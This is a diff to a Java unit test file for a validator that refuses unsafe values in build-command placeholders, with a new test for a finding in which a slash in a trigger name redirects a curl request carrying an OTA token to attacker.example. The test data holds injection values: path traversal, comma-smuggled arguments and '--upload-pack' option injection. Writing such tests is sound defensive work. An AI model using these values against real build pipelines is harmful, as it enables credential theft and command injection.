@@ -26,8 +26,9 @@ import org.junit.jupiter.params.provider.ValueSource;
  */
 class PayloadValuesTest {
 
+    /** The rules every value obeys, checked on ${build.project}'s (a name may not hold '/' besides: tryout44 F5). */
     private static Optional<String> problem(String value) {
-        return PayloadValues.problem(Placeholder.BUILD_TRIGGER, value, true);
+        return PayloadValues.problem(Placeholder.BUILD_PROJECT, value, true);
     }
 
     @ParameterizedTest
@@ -88,7 +89,7 @@ class PayloadValuesTest {
     void aValueWithoutALetterOrDigitAfterASlashIsRefused(String value) {
         assertThat(PayloadValues.problem(Placeholder.BUILD_TRIGGER, value, false, true)).get().asString()
                 .contains("names the folder before it");
-        assertThat(PayloadValues.problem(Placeholder.BUILD_TRIGGER, "a" + value, false, true)).isEmpty();
+        assertThat(PayloadValues.problem(Placeholder.BUILD_PROJECT, "a" + value, false, true)).isEmpty();
         assertThat(PayloadValues.problem(Placeholder.BUILD_TRIGGER, "", false, false)).isEmpty();
     }
 
@@ -105,7 +106,7 @@ class PayloadValuesTest {
                 .get(0);
 
         assertThat(job.refusal()).contains("into argument 4 of 'command'").contains("it holds ',' (U+002C) at"
-                + " character 7").contains("may hold only letters, digits and . _ - + / = ~,");
+                + " character 7").contains("may hold only letters, digits and . _ - + = ~ (no '/' in a name),");
         assertThat(job.argv()).containsExactly("/usr/bin/gcc", "-o", "/srv/bin/helper", "/srv/src/helper.c",
                 "-Wl,-rpath,/opt/fleet/${build.trigger}/lib");
         assertThat(problem("v1,image.repository=evil/app")).get().asString().startsWith("it holds ','");
@@ -129,6 +130,30 @@ class PayloadValuesTest {
         assertThat(PayloadValues.problem(Placeholder.RUN_LOG_URL, "https://h/a/%2e%2e/b", false)).isPresent();
     }
 
+    /**
+     * tryout44 F5: {@code https://${build.trigger}.ota.example.com/api/publish/${build.id}} with a trigger {@code
+     * attacker.example/x} sent the OTA token's request to attacker.example. A name (trigger, run name, host tag,
+     * status, factory) holds no '/' in any delivery and may not; {@code build.project} ({@code factory/project}) and
+     * the URLs keep theirs.
+     */
+    @Test
+    void aNameMayNotHoldASlashSinceInAUrlsHostItWouldChooseTheHost() {
+        String url = "https://${build.trigger}.ota.example.com/api/publish/${build.id}";
+        PlannedJob job = rules("      command: [/usr/bin/curl, -sS, -v, -H, \"@/work/tryout44/vals/ota-auth.hdr\", \""
+                + url + "\"]\n").match("default", trigger("attacker.example/x")).get(0);
+
+        assertThat(job.refusal()).contains("into argument 5 of 'command'").contains("it holds '/' at character 17")
+                .contains("would end the host").contains("letters, digits and . _ - + = ~ (no '/' in a name),");
+        assertThat(job.argv()).last().asString().startsWith("https://${build.trigger}.ota.example.com/api/publish/");
+        for (Placeholder p : List.of(Placeholder.BUILD_TRIGGER, Placeholder.RUN_NAME, Placeholder.RUN_HOST_TAG,
+                Placeholder.BUILD_STATUS, Placeholder.RUN_STATUS, Placeholder.BUILD_FACTORY)) {
+            assertThat(PayloadValues.problem(p, "a/b", false)).as(p.placeholderName()).get().asString()
+                    .startsWith("it holds '/' at character 2");
+        }
+        assertThat(PayloadValues.problem(Placeholder.BUILD_PROJECT, "andy-corp/lmp", true)).isEmpty();
+        assertThat(PayloadValues.problem(Placeholder.RUN_URL, "https://h/a/b", true)).isEmpty();
+    }
+
     @ParameterizedTest
     @ValueSource(strings = {"..", "../victim", "../../../../dev/stdin", "a/../b", "a/..", "x/../../y"})
     void aDotDotPathSegmentIsRefused(String value) {
@@ -137,7 +162,7 @@ class PayloadValuesTest {
 
     @Test
     void aLeadingDashIsRefusedOnlyWhereTheValueBeginsItsArgument() {
-        String upload = "--upload-pack=/tmp/x";
+        String upload = "--upload-pack=touch";
         assertThat(PayloadValues.problem(Placeholder.BUILD_TRIGGER, upload, true)).get().asString()
                 .contains("begins with '-'");
         assertThat(PayloadValues.problem(Placeholder.BUILD_TRIGGER, upload, false)).isEmpty();
